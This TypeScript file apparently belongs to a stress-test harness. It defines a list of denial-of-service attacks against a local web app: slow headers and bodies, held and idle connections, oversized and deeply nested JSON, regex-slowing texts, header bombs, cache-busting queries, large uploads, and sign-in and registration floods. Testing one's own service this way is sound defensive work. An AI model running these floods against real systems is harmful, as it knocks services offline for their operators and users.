import type { Aim, Attack } from './aim.ts'
import { hugePicture } from './huge-picture.ts'
import { flood, hold, listenTo, type Shot } from './weapons.ts'

const MB = 1024 * 1024
const JSON_TYPE = { 'content-type': 'application/json' }
const random = () => Math.random().toString(36).slice(2)
const post = (path: string, body: object | string): Shot => ({
  method: 'POST',
  path,
  headers: JSON_TYPE,
  body: typeof body === 'string' ? body : JSON.stringify(body),
})
const asMember = ({ member }: Aim, shot: Shot): Shot => ({
  ...shot,
  headers: { ...shot.headers, cookie: member.cookie },
})

const head = (path: string, lines: string[] = []) =>
  [`GET ${path} HTTP/1.1`, 'Host: 127.0.0.1', ...lines, '', ''].join('\r\n')

function slowHeads(connections: number) {
  return (aim: Aim) =>
    hold(aim, connections, (socket) => {
      listenTo(aim, socket)
      socket.write('GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n')
      return setInterval(() => socket.write('X-Slow: 1\r\n'), 500)
    })
}

function slowBodies(connections: number) {
  return (aim: Aim) =>
    hold(aim, connections, (socket) => {
      listenTo(aim, socket)
      const lines = ['Host: 127.0.0.1', 'Content-Type: application/json', 'Content-Length: 900000']
      socket.write(['POST /api/login HTTP/1.1', ...lines, '', '{"username":"'].join('\r\n'))
      return setInterval(() => socket.write('a'), 500)
    })
}

/** Bodies of which this many bytes are sent, and then nothing. */
const waitingBodies =
  (connections: number, path: string, length: number, sent: number) => (aim: Aim) =>
    hold(aim, connections, (socket) => {
      listenTo(aim, socket)
      const lines = [
        'Host: 127.0.0.1',
        'Content-Type: application/json',
        `Content-Length: ${length}`,
      ]
      socket.write([`POST ${path} HTTP/1.1`, ...lines, '', '{'.repeat(sent)].join('\r\n'))
    })

/** Requests pages and the largest lists, twenty per connection, and never reads the answers. */
function neverReading(connections: number) {
  return (aim: Aim) =>
    hold(aim, connections, (socket) => {
      socket.pause()
      for (let sent = 0; sent < 20; sent++) {
        socket.write(head(sent % 2 ? '/' : '/api/services?limit=100'))
      }
    })
}

const tooLarge = `{"username":"${'a'.repeat(0.9 * MB)}","password":"${'b'.repeat(0.09 * MB)}"}`
/** As deeply nested as the size limit of a body allows. */
const nested = `{"username":${'['.repeat(0.45 * MB)}${']'.repeat(0.45 * MB)}}`

const oversized = (loops: number) => (aim: Aim) =>
  flood(aim, loops, (number) =>
    post(number % 3 ? '/api/login' : '/api/contact', number % 2 ? tooLarge : nested),
  )

/** Texts with an unclosed tag and other input that slow regular expressions would struggle with. */
const slowTexts = [
  `<p>${'words '.repeat(20)}</p><${'a'.repeat(160_000)}`,
  `<p>${'words '.repeat(20)}</p>${'<a'.repeat(80_000)}`,
  `<p>${'words '.repeat(20)}</p>${'&'.repeat(160_000)}`,
  `<p>${'words '.repeat(20)}</p>${' '.repeat(160_000)}x`,
]
const slowTextsOfMember = (loops: number) => (aim: Aim) =>
  flood(aim, loops, (number) =>
    asMember(aim, {
      ...post(`/api/blog/posts/${aim.member.postId}`, {
        content: slowTexts[number % slowTexts.length],
      }),
      method: 'PUT',
    }),
  )

const spacesInHeader = (loops: number) => (aim: Aim) =>
  flood(aim, loops, () => ({
    path: '/',
    headers: { 'if-none-match': `a${' '.repeat(15_500)}b` },
  }))

const headerBombs = (loops: number) => (aim: Aim) =>
  flood(aim, loops, (number) => ({
    path: '/browse',
    headers:
      number % 2
        ? { cookie: 'a=b; '.repeat(3000), 'accept-language': 'en;q=0.1,'.repeat(10) }
        : Object.fromEntries(Array.from({ length: 900 }, (_, index) => [`x-${index}`, 'a'])),
  }))

const pageMisses = (loops: number) => (aim: Aim) =>
  flood(aim, loops, (number) => ({
    path: [`/?utm_source=${random()}`, `/browse?q${random()}=1`, `/browse?minRate=${number % 400}`][
      number % 3
    ] as string,
  }))

const listMisses = (loops: number) => (aim: Aim) =>
  flood(aim, loops, (number) => ({
    path: `/api/services?limit=100&minRate=${number % 300}&maxRate=${300 + (number % 700)}&x=${random()}`,
  }))

const searches = (loops: number) => (aim: Aim) =>
  flood(aim, loops, (number) => ({
    path:
      number % 2
        ? `/api/search?q=${random()}+${random()}+web`
        : `/api/services?search=${'devloper shop '.repeat(5)}${random()}`.replaceAll(' ', '+'),
  }))

/** The turns of a network and those of its member at once. */
const bothTurns = (loops: number) => (aim: Aim) =>
  flood(aim, loops, (number) => {
    const shot = { path: `/api/services?limit=100&minRate=${number % 400}` }
    return number % 2 ? asMember(aim, shot) : shot
  })

/** A form without scripts that is refused. */
const emptyForms = (loops: number) => (aim: Aim) =>
  flood(aim, loops, () => ({
    method: 'POST',
    path: '/contact',
    headers: {
      'content-type': 'application/x-www-form-urlencoded',
      'sec-fetch-site': 'same-origin',
    },
    body: 'name=',
  }))

const nineMegabytes = new Uint8Array(9 * MB).fill(65)
const uploadsOfStrangers = (loops: number) => (aim: Aim) =>
  flood(aim, loops, () => ({
    method: 'POST',
    path: '/api/attachments?name=a.txt',
    headers: { 'content-type': 'application/octet-stream' },
    body: nineMegabytes,
  }))
const uploadsOfMember = (loops: number) => (aim: Aim) =>
  flood(aim, loops, () =>
    asMember(aim, {
      method: 'POST',
      path: '/api/attachments?name=a.txt',
      headers: { 'content-type': 'application/octet-stream' },
      body: nineMegabytes,
    }),
  )

const pdfs = (loops: number) => (aim: Aim) =>
  flood(aim, loops, () =>
    asMember(aim, { path: `/api/documents/${aim.member.documentId}/file.pdf` }),
  )

const covers = (loops: number) => (aim: Aim) => {
  const body = hugePicture()
  return flood(aim, loops, () =>
    asMember(aim, {
      method: 'PUT',
      path: `/api/services/${aim.member.serviceId}/cover`,
      headers: { 'content-type': 'image/png' },
      body,
    }),
  )
}

const cards = (loops: number) => (aim: Aim) =>
  flood(aim, loops, (number) => ({ path: `/og/services/${1 + (number % 60)}.png` }))

const signIns = (loops: number) => (aim: Aim) =>
  flood(aim, loops, () =>
    post('/api/login', { username: `nobody${random()}`, password: `wrong ${random()}` }),
  )

const registrations = (loops: number) => (aim: Aim) =>
  flood(aim, loops, () => {
    const name = random()
    const about = { username: name, email: `${name}@example.org`, fullName: name }
    return post('/api/register', { ...about, password: `a long secret ${name}` })
  })

const streams = (connections: number) => (aim: Aim) =>
  hold(aim, connections, (socket) => {
    listenTo(aim, socket)
    const cookie = `Cookie: ${aim.member.cookie}`
    socket.write(head('/api/events', ['Accept: text/event-stream', cookie]))
  })

const idle = (connections: number) => (aim: Aim) => hold(aim, connections, () => {})

const plainPages = (loops: number) => (aim: Aim) => flood(aim, loops, () => ({ path: '/' }))

/**
 * Each attack is limited by its number of loops or connections and by time. Variants with `from: 200` use 200
 * addresses.
 */
export const attacks: readonly Attack[] = [
  { name: 'slow heads', from: 1, run: slowHeads(400) },
  { name: 'slow heads', from: 200, run: slowHeads(4000) },
  { name: 'slow bodies', from: 1, run: slowBodies(400) },
  { name: 'slow bodies', from: 200, run: slowBodies(4000) },
  { name: 'bodies that wait', from: 3, run: waitingBodies(290, '/api/login', 256_000, 1) },
  { name: 'webhook bodies', from: 1, run: waitingBodies(264, '/api/webhooks/x', 262_144, 262_143) },
  { name: 'one address and one account', from: 1, run: bothTurns(204) },
  { name: 'a public form that clears the cache', from: 1, run: emptyForms(20) },
  { name: 'never reading', from: 1, run: neverReading(400) },
  { name: 'never reading', from: 200, run: neverReading(2000) },
  { name: 'oversized bodies', from: 1, run: oversized(20) },
  { name: 'oversized bodies', from: 200, run: oversized(200) },
  { name: 'slow texts of a member', from: 1, run: slowTextsOfMember(4) },
  { name: 'spaces in a header', from: 1, run: spacesInHeader(20) },
  { name: 'spaces in a header', from: 200, run: spacesInHeader(200) },
  { name: 'header bombs', from: 1, run: headerBombs(20) },
  { name: 'header bombs', from: 200, run: headerBombs(200) },
  { name: 'page cache misses', from: 1, run: pageMisses(40) },
  { name: 'page cache misses', from: 200, run: pageMisses(200) },
  { name: 'list cache misses', from: 1, run: listMisses(40) },
  { name: 'list cache misses', from: 200, run: listMisses(200) },
  { name: 'searches', from: 1, run: searches(40) },
  { name: 'searches', from: 200, run: searches(200) },
  { name: 'uploads without a session', from: 1, run: uploadsOfStrangers(60) },
  { name: 'uploads without a session', from: 200, run: uploadsOfStrangers(200) },
  { name: 'uploads of a member', from: 1, run: uploadsOfMember(60) },
  { name: 'PDFs of a member', from: 1, run: pdfs(8) },
  { name: 'huge pictures of a member', from: 1, run: covers(8) },
  { name: 'pictures for links', from: 1, run: cards(20) },
  { name: 'pictures for links', from: 200, run: cards(200) },
  { name: 'sign-ins', from: 1, run: signIns(50) },
  { name: 'sign-ins', from: 200, run: signIns(200) },
  { name: 'registrations', from: 1, run: registrations(50) },
  { name: 'registrations', from: 200, run: registrations(200) },
  { name: 'event streams of a member', from: 1, run: streams(1000) },
  { name: 'idle connections', from: 1, run: idle(10_000) },
  { name: 'idle connections', from: 200, run: idle(10_000) },
  { name: 'kept pages', from: 1, run: plainPages(50) },
  { name: 'kept pages', from: 200, run: plainPages(200) },
]
